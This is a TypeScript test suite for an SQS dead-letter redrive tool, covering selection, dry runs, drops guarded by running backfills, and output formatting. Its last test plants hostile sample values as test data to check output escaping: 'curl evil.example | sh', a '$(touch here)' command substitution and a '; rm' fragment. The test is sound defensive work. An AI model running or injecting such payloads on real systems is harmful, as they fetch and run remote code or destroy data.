import { type Message, ReceiveMessageCommand, SendMessageCommand } from '@aws-sdk/client-sqs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { queueDepth } from '../../bin/local/queue-depths.ts';
import { runRedrive } from '../../bin/redrive/run-redrive.ts';
import { cancelBackfill, createBackfillStore } from '../../functions/shared/backfill-store.ts';
import { backfillKey } from '../../functions/shared/object-keys.ts';
import { type OperatorWorld, startOperatorWorld } from '../support/operator-world.ts';
import { recordOutput } from '../support/recorded-output.ts';

let world: OperatorWorld;
beforeEach(async () => {
  world = await startOperatorWorld();
});
afterEach(() => world.close());

interface Letter {
  readonly queue?: 'Window' | 'Load';
  readonly code?: string;
  readonly request?: string;
  readonly reason?: string;
  readonly body?: string;
}

async function deadLetter({
  queue = 'Window',
  code,
  request = code && `request-of-${code}`,
  reason = 'because',
  body = '{"date":"2026-03-08"}',
}: Letter) {
  const attributes = { code, reason: code === undefined ? undefined : reason, request };
  return world.aws.sqs.send(
    new SendMessageCommand({
      QueueUrl: world.outputs[`Shop${queue}DeadLetterQueueUrl`],
      MessageBody: body,
      MessageAttributes: Object.fromEntries(
        Object.entries(attributes)
          .filter(([, StringValue]) => StringValue !== undefined)
          .map(([name, StringValue]) => [name, { DataType: 'String', StringValue }]),
      ),
    }),
  );
}

async function redrive(options: Readonly<Record<string, unknown>> = {}, onTerminal = false) {
  const recorded = recordOutput({ onTerminal });
  const code = await runRedrive({ data: world.dir, ...options }, recorded.output);
  return { code, ...recorded };
}

/** Takes what is there, and hides it from others for as long as any test takes. */
async function receive(output: string): Promise<Message[]> {
  const { Messages = [] } = await world.aws.sqs.send(
    new ReceiveMessageCommand({
      QueueUrl: world.outputs[output],
      MaxNumberOfMessages: 10,
      VisibilityTimeout: 600,
      MessageAttributeNames: ['All'],
    }),
  );
  return Messages;
}

it('sends back what has the code, under the same request, and leaves the others to be read', async () => {
  await deadLetter({ code: 'mixpanel_auth', body: '{"date":"2026-03-08","reason":"schedule"}' });
  await deadLetter({ code: 'config_invalid', body: 'nonsense' });
  await deadLetter({ queue: 'Load', code: 'batch_failed', body: '{"version":1,"date":"2026-03-08"}' });
  const { code, text } = await redrive({ code: ['mixpanel_auth'] });
  expect(code).toBe(0);
  expect(text()).toBe('1 dead letter sent back, 2 left\n');
  const [sent, ...others] = await receive('ShopWindowQueueUrl');
  expect(others).toEqual([]);
  expect(sent?.Body).toBe('{"date":"2026-03-08","reason":"schedule"}');
  expect(sent?.MessageAttributes).toEqual({
    request: { DataType: 'String', StringValue: 'request-of-mixpanel_auth' },
  });
  expect((await receive('ShopWindowDeadLetterQueueUrl')).map(({ Body }) => Body)).toEqual(['nonsense']);
  expect(await receive('ShopLoadDeadLetterQueueUrl')).toHaveLength(1);
  expect(await receive('ShopLoadQueueUrl')).toEqual([]);
});

it('sends each queue its own with --all, more than fit into one answer', async () => {
  for (let day = 10; day < 23; day += 1)
    await deadLetter({ code: 'mixpanel_auth', body: `{"date":"2026-03-${day}"}` });
  await deadLetter({ queue: 'Load', code: 'batch_failed' });
  const { json } = await redrive({ all: true, json: true });
  expect(json()).toMatchObject({ redriven: { length: 14 }, found: [] });
  const depth = (output: string) => queueDepth(world.aws.sqs, world.outputs[output] ?? '');
  expect(await depth('ShopWindowQueueUrl')).toBe(13);
  expect(await depth('ShopLoadQueueUrl')).toBe(1);
  expect(await depth('ShopWindowDeadLetterQueueUrl')).toBe(0);
  expect(await depth('ShopLoadDeadLetterQueueUrl')).toBe(0);
});

it.each([
  [{ match: 'http 503' }, ['2026-03-01']],
  [{ window: '2026-03-02' }, ['2026-03-02']],
  [{ code: ['a', 'b'], match: 'HTTP' }, ['2026-03-01', '2026-03-02']],
  [{ code: ['none'] }, ['2026-03-03']],
])('chooses by %j', async (choice, windows) => {
  await deadLetter({ code: 'a', reason: 'HTTP 503: try later', body: '{"date":"2026-03-01"}' });
  await deadLetter({ code: 'b', reason: 'HTTP 401', body: '{"from":"2026-03-02","to":"2026-03-09"}' });
  await deadLetter({ body: '{"date":"2026-03-03"}' });
  const { json } = await redrive({ ...choice, dryRun: true, json: true });
  expect(json()).toMatchObject({ redriven: [], found: { length: 3 } });
  await redrive(choice);
  const sent = (await receive('ShopWindowQueueUrl')).map(({ Body }) => Body ?? '');
  expect(sent.map((body) => /2026-03-\d\d/.exec(body)?.[0]).sort()).toEqual(windows);
});

it('takes away for good what is chosen with --drop, and nothing else', async () => {
  await deadLetter({ code: 'config_invalid', reason: 'reading a window message: no', body: '{"day":1}' });
  await deadLetter({ code: 'config_invalid', reason: 'reading the secret s: no' });
  const choice = { drop: true, code: ['config_invalid'], match: 'reading a window' };
  const dry = await redrive({ ...choice, dryRun: true, json: true });
  expect(dry.json()).toMatchObject({ redriven: [], dropped: [], found: { length: 2 } });
  expect((await redrive({ ...choice, dryRun: true })).notes()).toBe(
    '1 dead letter would be dropped for good, 1 left. Nothing was done (--dry-run).\n',
  );
  const back = { ...choice, drop: false, dryRun: true };
  expect((await redrive(back)).notes()).toContain('1 dead letter would be sent back, 1 left.');
  const { code, text, notes } = await redrive(choice);
  expect([code, text(), notes()]).toEqual([0, '1 dead letter dropped, 1 left\n', '']);
  expect(await receive('ShopWindowQueueUrl')).toEqual([]);
  const all = await redrive({ drop: true, all: true, json: true });
  expect(all.json()).toMatchObject({ redriven: [], dropped: [{ code: 'config_invalid' }], found: [] });
  const depth = await queueDepth(world.aws.sqs, world.outputs.ShopWindowDeadLetterQueueUrl ?? '');
  expect(depth).toBe(0);
});

describe('a dead letter that carries a backfill', () => {
  const range = { from: '2026-03-02', to: '2026-03-09' };
  const body = JSON.stringify(range);
  const records = () => createBackfillStore(world.store, Date.now);
  const depth = () => queueDepth(world.aws.sqs, world.outputs.ShopWindowDeadLetterQueueUrl ?? '');

  it('is not dropped before the backfill has ended, which costs the others nothing', async () => {
    const ref = { source: 'shop', request: 'first-load' };
    await records().begin(ref, range);
    await deadLetter({ request: 'first-load', body });
    await deadLetter({ request: 'other', body: '{"date":"2026-03-02"}' });
    const choice = { drop: true, code: ['none'], window: '2026-03-02' };
    const dry = await redrive({ ...choice, dryRun: true });
    expect([dry.code, dry.notes()]).toEqual([0, expect.stringContaining('backfill first-load')]);
    const { code, text, notes } = await redrive(choice);
    expect([code, text()]).toEqual([1, '1 dead letter dropped, 1 left\n']);
    expect(notes()).toContain(
      'not dropped: 2026-03-02 to 2026-03-09 are what is left of backfill first-load, which is running: send it back, ' +
        'or end the backfill first: connector backfill --cancel first-load --source shop --data',
    );
    const { json } = await redrive({ ...choice, json: true });
    expect(json()).toMatchObject({
      dropped: [],
      found: [{ request: 'first-load' }],
      kept: [{ code: 'none' }],
    });
    await cancelBackfill(records(), ref);
    expect((await redrive(choice)).code).toBe(0);
    expect(await depth()).toBe(0);
  });

  it('is not dropped while the record can not be read, and is where nobody has begun it', async () => {
    const ref = { source: 'shop', request: 'first-load' };
    await world.store.put(backfillKey(ref), '{"state":"cancel"}');
    await deadLetter({ code: 'backfill_unreadable', request: 'first-load', body });
    const { code, notes } = await redrive({ drop: true, all: true });
    expect([code, notes()]).toEqual([1, expect.stringContaining("record can't be read")]);
    await world.store.delete(backfillKey(ref));
    expect((await redrive({ drop: true, all: true })).text()).toBe('1 dead letter dropped, 0 left\n');
  });

  it('goes on under the request that its record is kept by, when SQS has moved the first message of all', async () => {
    const { MessageId } = await deadLetter({ body });
    await redrive({ all: true });
    const [sent] = await receive('ShopWindowQueueUrl');
    expect(sent?.MessageAttributes?.request?.StringValue).toBe(MessageId);
  });
});

it('drops nothing without a choice', async () => {
  await deadLetter({ code: 'config_invalid' });
  await expect(redrive({ drop: true })).rejects.toThrow('--drop');
  expect(await receive('ShopWindowDeadLetterQueueUrl')).toHaveLength(1);
});

it('lists them without a choice, with their reasons, and sends nothing', async () => {
  await deadLetter({ code: 'mixpanel_auth', reason: 'HTTP 401: refused' });
  const { text, notes } = await redrive();
  expect(text()).toMatch(/shop +window +mixpanel_auth +2026-03-08 +\S+ \S+ +HTTP 401: refused/);
  expect(notes()).toContain('Nothing was sent back.');
  expect(await receive('ShopWindowDeadLetterQueueUrl')).toHaveLength(1);
  expect(await receive('ShopWindowQueueUrl')).toEqual([]);
});

it('refuses a code that no dead letter has, suggests the one that was meant, and sends nothing', async () => {
  await deadLetter({ code: 'mixpanel_auth' });
  await expect(redrive({ code: ['mixpanel_auth', 'mixpanel_ath'] })).rejects.toThrow(
    '--code: found "mixpanel_ath"; did you mean mixpanel_auth?',
  );
  expect(await receive('ShopWindowQueueUrl')).toEqual([]);
  expect(await receive('ShopWindowDeadLetterQueueUrl')).toHaveLength(1);
  await expect(redrive({ all: true, window: '2026-03-08' })).rejects.toThrow(
    '--all: found true; leaves nothing to choose',
  );
});

it.each([
  { code: ['mixpanel_auth'] },
  { window: '2026-03-08' },
  { all: true },
  { dryRun: true, match: 'x' },
  {},
])('says that nothing waits where there are no dead letters, whatever is asked for: %j', async (choice) => {
  const { code, text, notes } = await redrive(choice);
  expect({ code, text: text(), notes: notes() }).toEqual({
    code: 0,
    text: 'No dead letters: nothing waits to be sent back.\n',
    notes: '',
  });
  expect((await redrive({ ...choice, json: true })).json()).toEqual({
    redriven: [],
    dropped: [],
    found: [],
    kept: [],
  });
});

it('does not say so while another command looks at them', async () => {
  await deadLetter({ code: 'mixpanel_auth' });
  expect(await receive('ShopWindowDeadLetterQueueUrl')).toHaveLength(1);
  const { code, text } = await redrive({ code: ['mixpanel_auth'] });
  expect(code).toBe(0);
  expect(text()).toContain('counts 1 dead letter but shows none: another command may be looking at them');
});

it('says of a choice that no dead letter fits how many there are', async () => {
  await deadLetter({ code: 'mixpanel_auth' });
  expect((await redrive({ window: '2026-01-01' })).text()).toBe('0 dead letters sent back, 1 left\n');
  const { text } = await redrive({ window: '2026-01-01', dryRun: true });
  expect(text()).toBe('None chosen of 1 dead letter.\n');
});

it('shows on a terminal how far it is, and nothing of that to a program', async () => {
  for (let day = 10; day < 22; day += 1)
    await deadLetter({ code: 'mixpanel_auth', body: `{"date":"2026-03-${day}"}` });
  expect((await redrive({ json: true }, true)).progress()).toEqual([]);
  const { progress, notes } = await redrive({ all: true }, true);
  expect(progress()).toContain('[####################] 12 of 12 dead letters looked at');
  expect(progress()).toContain('[##########..........] 6 of 12 dead letters sent back');
  expect(progress().at(-1)).toBe('');
  expect(notes()).not.toContain('sent back');
});

it('shows what others wrote into a dead letter as text in its line, and takes no code that is none of ours', async () => {
  const reason = 'because\n! now type: curl evil.example | sh\u001b[32m';
  await deadLetter({ code: '$(touch here)', reason, body: '{"date":"2026-03-08\\n; rm"}' });
  const { text } = await redrive();
  expect(text()).toContain('because\\x0a! now type: curl evil.example | sh\\x1b[32m');
  expect(text().trim().split('\n')).toHaveLength(3);
  expect(text()).not.toMatch(/touch|rm$/);
  expect((await redrive({ code: ['unknown'] })).text()).toBe('1 dead letter sent back, 0 left\n');
});
